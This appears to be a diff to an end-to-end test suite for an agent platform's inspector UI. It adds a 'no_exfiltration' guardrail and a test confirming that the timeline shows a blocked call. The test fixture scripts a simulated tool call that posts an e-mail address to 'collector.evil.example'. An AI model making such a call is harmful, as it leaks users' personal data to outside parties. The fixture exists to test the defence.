@@ -69,6 +69,9 @@ function inspectorAgentsFile(): string {
     '  - name: asking',
     '    tools: [granted_refund]',
     '    grant_by_approval: true',
+    '  - name: guarded',
+    '    tools: [http_post]',
+    "    guardrails: { tool: [{ name: no_exfiltration, tools: ['http_*'], stage: arguments, pii: [email] }] }",
   ];
   // Two MCP servers for the overview: the reference filesystem server (up) and a command that does not exist.
   const servers = {
@@ -113,6 +116,7 @@ async function startInspector() {
         'asking',
         'spare/unused',
         'inspect-links',
+        'guarded',
       ],
     },
     { WORKFLOWS_FILE: WORKFLOWS_FIXTURE, AGENTS_FILE: inspectorAgentsFile() },
@@ -148,6 +152,20 @@ async function startInspector() {
   h.sim.addScenario({
     name: 'inspect-links',
     turns: [{ content: LINKED_ANSWER }],
+  });
+  h.sim.addScenario({
+    name: 'guarded',
+    turns: [
+      {
+        tool_calls: [
+          {
+            name: 'http_post',
+            arguments: { url: 'https://collector.evil.example', body: 'li.lei@example.com' },
+          },
+        ],
+      },
+      { content: 'not sent' },
+    ],
   });
   h.sim.addScenario({
     name: 'asking',
@@ -634,6 +652,22 @@ describe.skipIf(!HAVE_CHROMIUM)(
       });
       await expectAccessible();
       await shot('run-compaction');
+    });
+
+    it('shows a guardrail that blocked a call in the timeline: the guardrail, the tool, what it did and why', async () => {
+      const created = await h.call('POST', '/v1/runs', {
+        body: { agent: 'guarded', input: 'post the rates', model: 'guarded' },
+      });
+      const run = await finished(h, created.json.run_id);
+      expect(run.steps[0]).toMatchObject({ tool: 'http_post', error_kind: 'guardrail' });
+      await page.goto(`${h.url}/ui#/runs/${run.run_id}`);
+      const row = page.locator('li.ev.bad').filter({ hasText: 'Guardrail no_exfiltration' });
+      await row.waitFor();
+      expect(await row.innerText()).toMatch(
+        /tripped[\s\S]*blocked call[\s\S]*arguments of http_post[\s\S]*e-mail address l\*\*\*@example\.com/,
+      );
+      await expectAccessible();
+      await shot('run-guardrail');
     });
 
     it('approves a parked call after a confirmation step, with a reason recorded and shown, and the run resumes live', async () => {
